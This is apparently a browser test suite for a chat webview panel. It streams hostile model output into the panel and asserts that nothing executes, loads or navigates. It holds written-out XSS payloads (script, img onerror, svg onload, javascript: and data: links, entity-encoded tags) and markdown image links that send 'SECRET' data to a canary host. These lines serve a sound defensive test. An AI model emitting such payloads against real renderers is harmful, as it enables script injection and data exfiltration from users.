// Hostile model output in a real browser: the built webview bundle in headless Chromium, under
// the panel's own CSP, fed through the real message protocol. Nothing may execute, load or
// navigate, our own code may not trip the CSP, and the page must stay responsive.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { initMessage, startCanary, startHarness, streamingEntry } from '../../browser/harness.mjs';

// The evaluate callbacks run in the page; the Node-side typecheck has no DOM library.
/* eslint-disable @typescript-eslint/no-explicit-any */
declare const document: any, window: any, requestAnimationFrame: (f: () => void) => number;

type Harness = Awaited<ReturnType<typeof startHarness>>;
let h: Harness;
let canary: Awaited<ReturnType<typeof startCanary>>;
let n = 0;

beforeAll(async () => {
  canary = await startCanary();
  h = await startHarness();
  await h.host(initMessage());
}, 60_000);
afterAll(async () => {
  await h?.close();
  await canary?.close();
});

/** Streams `text` as an answer in deltas of `size` characters, one message each, then ends it. */
async function stream(text: string, size = 37): Promise<string> {
  const id = `a-${++n}`;
  await h.host({ type: 'entry', entry: streamingEntry(id) });
  const batch: unknown[] = [];
  for (let i = 0; i < text.length; i += size) {
    batch.push({ type: 'delta', answerId: id, text: text.slice(i, i + size) });
    if (batch.length === 500) await h.host(...batch.splice(0));
  }
  if (batch.length) await h.host(...batch);
  await h.host({ type: 'answerEnd', answerId: id, status: 'done', durationMs: 10 });
  await h.settle();
  return id;
}

/** What an answer element contains that must never be there. */
function inspect(id: string) {
  return h.page.evaluate((answerId) => {
    const el = document.querySelector(`[data-id="${answerId}"]`)!;
    const all: any[] = Array.from(el.querySelectorAll('*'));
    return {
      exists: !!el,
      dangerousTags: all
        .filter((e) =>
          /^(script|img|svg|iframe|object|embed|video|audio|source|link|style|form|input|base|meta)$/i.test(e.tagName),
        )
        .map((e) => e.tagName),
      hrefs: all
        .filter(
          (e) => e.hasAttribute('href') || e.hasAttribute('src') || e.hasAttribute('srcset') || e.hasAttribute('style'),
        )
        .map((e) => e.outerHTML.slice(0, 120)),
      handlers: all.flatMap((e) =>
        (Array.from(e.attributes) as any[]).filter((a) => a.name.startsWith('on')).map((a) => `${e.tagName}.${a.name}`),
      ),
      linkTargets: (Array.from(el.querySelectorAll('.md-link')) as any[]).map((a) => String(a.dataset.href ?? '')),
      text: String(el.querySelector('.md').textContent ?? ''),
      pwned: window.__pwned as unknown,
    };
  }, id);
}

async function expectClean(id: string) {
  const r = await inspect(id);
  expect(r.exists).toBe(true);
  expect(r.pwned).toBeUndefined();
  expect(r.dangerousTags).toEqual([]);
  expect(r.hrefs).toEqual([]);
  expect(r.handlers).toEqual([]);
  for (const t of r.linkTargets) expect(t).toMatch(/^(https?:|mailto:)/i);
  expect(await h.violations()).toEqual([]);
  return r;
}

async function responsiveWithin(ms: number) {
  const t0 = Date.now();
  await h.page.evaluate(() => new Promise((r) => requestAnimationFrame(() => r(null))));
  expect(Date.now() - t0).toBeLessThan(ms);
}

describe('hostile model output in the real webview', () => {
  it('the page carries the panel CSP (no unsafe-inline, unsafe-eval or remote sources)', async () => {
    const csp: string = await h.page.evaluate(() =>
      document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'),
    );
    expect(csp).toBe(h.csp);
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|https:|\*/);
    expect(csp).toMatch(/default-src 'none'/);
    expect(csp).toMatch(/img-src 'none'/);
  });

  it('HTML in the answer is text: script, img onerror, svg onload, iframe, style', async () => {
    const id = await stream(
      [
        'Before <script>window.__pwned = "script"</script> after',
        '',
        '<img src=x onerror="window.__pwned=\'img\'">',
        '',
        '<svg onload="window.__pwned=\'svg\'"><circle r="5"/></svg>',
        '',
        '<iframe src="javascript:window.__pwned=\'iframe\'"></iframe>',
        '',
        '<style>body { display: none }</style>',
        '',
        '<details open ontoggle="window.__pwned=\'details\'">x</details>',
      ].join('\n'),
    );
    const r = await expectClean(id);
    expect(r.text).toContain('<script>window.__pwned = "script"</script>');
    expect(r.text).toContain('<img src=x onerror=');
  });

  it('javascript:, data:, vscode:, command: and file: links are not links', async () => {
    const id = await stream(
      [
        '[a](javascript:window.__pwned=1) [b](JAVASCRIPT:window.__pwned=1) [c](java&#x09;script:window.__pwned=1)',
        '[d](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+) [e](vscode://settings/x) [f](command:workbench.action.reloadWindow) [g](file:///etc/passwd)',
        '<javascript:alert(1)> <vscode://x/y>',
      ].join('\n'),
    );
    const r = await expectClean(id);
    expect(r.linkTargets).toEqual([]);
  });

  it('entities that decode into tags stay text', async () => {
    const id = await stream(
      '&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;img src=x onerror=window.__pwned=1&#62; &#x3C;svg onload=window.__pwned=1&#x3E;',
    );
    const r = await expectClean(id);
    expect(r.text).toContain('<script>window.__pwned=1</script>');
  });

  it('remote images and links never load: no request leaves the page', async () => {
    const before = h.requests.length;
    const id = await stream(
      [
        `![exfil](${canary.url}/img?data=SECRET)`,
        `![ref][r]\n\n[r]: ${canary.url}/ref?data=SECRET`,
        `[a link](${canary.url}/link?data=SECRET) and an autolink ${canary.url}/auto?data=SECRET`,
        `<img src="${canary.url}/raw?data=SECRET">`,
      ].join('\n\n'),
    );
    const r = await expectClean(id);
    expect(r.linkTargets.some((t) => t.startsWith(canary.url))).toBe(true);
    // Clicking a link asks the host; the page itself does not navigate or fetch.
    await h.page.locator(`[data-id="${id}"] .md-link`).first().click();
    await h.page.locator(`[data-id="${id}"] .md-image`).first().click();
    await h.settle();
    const posted = await h.posted();
    const opens = posted.filter((m: { type: string }) => m.type === 'openLink');
    expect(opens.length).toBeGreaterThanOrEqual(2);
    expect(opens.every((m: { href: string }) => m.href.startsWith(canary.url))).toBe(true);
    await new Promise((r) => setTimeout(r, 300));
    expect(canary.hits).toEqual([]);
    expect(h.requests.slice(before).filter((u) => !u.startsWith(h.origin))).toEqual([]);
    expect(h.page.url()).toBe(`${h.origin}/`);
  });

  it('a 10 MB line without a newline ends as plain text whose "Show all" shows every character', async () => {
    const line = 'x'.repeat(10 * 1024 * 1024);
    const id = await stream(line, 64 * 1024);
    await responsiveWithin(1000);
    const shown = () =>
      h.page.evaluate(
        (answerId) => String(document.querySelector(`[data-id="${answerId}"] .md`).textContent).length,
        id,
      );
    expect(await shown()).toBeLessThan(100_000);
    await h.page.locator(`[data-id="${id}"] .show-all`).click();
    await h.settle();
    expect(await shown()).toBeGreaterThanOrEqual(10 * 1024 * 1024);
    expect(await h.page.locator(`[data-id="${id}"] .show-all`).count()).toBe(0);
    expect(await h.violations()).toEqual([]);
  }, 60_000);

  it('a 5,000-row table streams row by row and ends complete', async () => {
    const rows = ['| # | name | value |', '|---:|:---|:-:|'];
    for (let i = 1; i <= 5000; i++) rows.push(`| ${i} | <b onmouseover=window.__pwned=1>row</b> ${i} | ${i * 3} |`);
    const id = await stream(rows.join('\n') + '\n', 60);
    await responsiveWithin(1000);
    const count: number = await h.page.evaluate(
      (answerId) => document.querySelectorAll(`[data-id="${answerId}"] tbody tr`).length,
      id,
    );
    expect(count).toBe(5000);
    await expectClean(id);
  }, 60_000);

  it('50-deep nested lists render without breaking the page', async () => {
    const lines: string[] = [];
    for (let d = 0; d < 50; d++) lines.push(`${'  '.repeat(d)}- level ${d} <img src=x onerror=window.__pwned=1>`);
    const id = await stream(lines.join('\n'));
    await responsiveWithin(1000);
    const r = await expectClean(id);
    expect(r.text).toContain('level 49');
  });

  it('a malformed or unknown host message is dropped and the page keeps working', async () => {
    await h.host(
      { type: 'entry', entry: { kind: 'assistant', id: 'bad id!', text: '<script>window.__pwned=1</script>' } },
      { type: 'eval', code: 'window.__pwned=1' },
      'not an object',
      null,
    );
    const id = await stream('still **works**');
    const r = await expectClean(id);
    expect(r.text).toContain('still works');
  });

  it('our own code never triggers a CSP violation or a console error', async () => {
    expect(await h.violations()).toEqual([]);
    // Dropped messages are logged as warnings, not errors.
    expect(h.consoleErrors).toEqual([]);
  });
});
